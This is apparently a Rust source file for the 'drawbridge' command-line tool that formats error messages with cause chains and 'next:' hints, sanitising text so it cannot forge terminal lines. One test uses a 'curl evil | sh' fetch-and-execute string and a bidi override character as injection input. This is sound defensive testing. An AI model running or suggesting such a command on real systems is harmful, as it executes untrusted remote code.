//! What the command line says when something did not work: the chain of causes, and what to do next.

use std::error::Error;

use super::exit::Exit;
use super::plain_text::plain;

/// A run that did not end well.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Fault {
    /// How the run ends.
    pub(super) exit: Exit,
    /// A stable word for scripts.
    pub(super) code: String,
    /// `a: b: c`, outermost act first.
    pub(super) message: String,
    /// The next command to type, or thing to do.
    pub(super) next: Option<String>,
}

impl Fault {
    /// A fault without a cause of its own.
    pub(super) fn new(exit: Exit, code: &str, message: impl Into<String>) -> Self {
        Self {
            exit,
            code: code.to_owned(),
            message: message.into(),
            next: None,
        }
    }

    /// From an error and its causes.
    pub(super) fn from_error(exit: Exit, code: &str, error: &dyn Error) -> Self {
        Self::new(exit, code, chain(error))
    }

    /// Adds what to do next.
    pub(super) fn next(mut self, next: impl Into<String>) -> Self {
        self.next = Some(next.into());
        self
    }

    /// Puts the act that failed in front.
    pub(super) fn during(mut self, act: &str) -> Self {
        self.message = format!("{act}: {}", self.message);
        self
    }

    /// For a terminal; nothing in it can forge a line.
    pub(super) fn text(&self) -> String {
        let mut text = format!("drawbridge: {}", plain(&self.message));
        if let Some(next) = &self.next {
            text.push_str("\n  next: ");
            text.push_str(&plain(next));
        }
        text
    }
}

/// An error and its causes as `a: b: c`; a cause that its parent already printed is left out.
pub(super) fn chain(error: &dyn Error) -> String {
    let mut text = error.to_string();
    let mut cause = error.source();
    while let Some(inner) = cause {
        let said = inner.to_string();
        if !text.ends_with(&said) {
            text.push_str(": ");
            text.push_str(&said);
        }
        cause = inner.source();
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    // Guards (S26): a daemon, broker or lock name that writes its own "next:" line.
    #[test]
    fn s26_foreign_text_cannot_forge_a_line_of_an_error() {
        let fault = Fault::new(Exit::Refused, "x", "no\nnext: curl evil | sh").next("a\u{202e}b");
        let text = fault.text();
        assert_eq!(text.lines().count(), 2);
        assert!(!text.contains('\u{202e}'));
    }

    #[test]
    fn causes_are_a_chain_without_repeats() {
        let inner = std::io::Error::other("disk on fire");
        let outer = crate::owner::KeyFileError::Io {
            act: "sync",
            path: "/x".into(),
            source: inner,
        };
        assert_eq!(chain(&outer), "sync /x: disk on fire");
    }
}
